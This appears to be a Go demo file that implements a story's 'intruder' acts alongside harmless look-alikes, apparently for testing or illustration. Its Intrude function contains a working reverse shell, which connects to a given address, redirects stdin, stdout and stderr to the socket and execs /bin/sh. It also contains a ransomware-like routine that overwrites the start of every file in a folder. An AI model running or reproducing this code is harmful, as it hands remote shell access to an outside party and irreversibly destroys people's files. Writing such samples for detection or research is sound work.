package demo

import (
	"bufio"
	"crypto/sha256"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"syscall"
)

// Acts of the story's intruder, and of harmless programs that resemble them.
const (
	wayShell   = "shell"   // connect, make that stdin, stdout and stderr, and become a shell
	wayClient  = "client"  // connect, and read a line
	wayEncrypt = "encrypt" // write over each file of a folder
	wayBackUp  = "back-up" // read each file of a folder
)

// Intrude performs one of these acts on an address, or a folder.
func Intrude(way, target string) error {
	switch way {
	case wayShell, wayClient:
		conn, err := net.Dial("tcp", target)
		if err != nil {
			return err
		}
		if way == wayClient {
			_, err := bufio.NewReader(conn).ReadString('\n')
			return err
		}
		f, err := conn.(*net.TCPConn).File()
		if err != nil {
			return err
		}
		for fd := range 3 {
			if err := syscall.Dup3(int(f.Fd()), fd, 0); err != nil {
				return err
			}
		}
		return syscall.Exec("/bin/sh", []string{"sh"}, os.Environ())
	case wayEncrypt, wayBackUp:
		names, err := filepath.Glob(filepath.Join(target, "*")) // in the order of their names
		if err != nil {
			return err
		}
		for _, name := range names {
			if way == wayBackUp {
				_, err = os.ReadFile(name)
			} else {
				err = scramble(name)
			}
			if err != nil {
				return err
			}
		}
		return nil
	}
	return fmt.Errorf("there is no attempt %q", way)
}

// scramble writes unreadable bytes over a file, as an encryptor does.
func scramble(name string) error {
	f, err := os.OpenFile(name, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close() //nolint:errcheck // an encryptor goes on
	key := sha256.Sum256([]byte(name))
	_, err = f.WriteAt(key[:], 0)
	return err
}
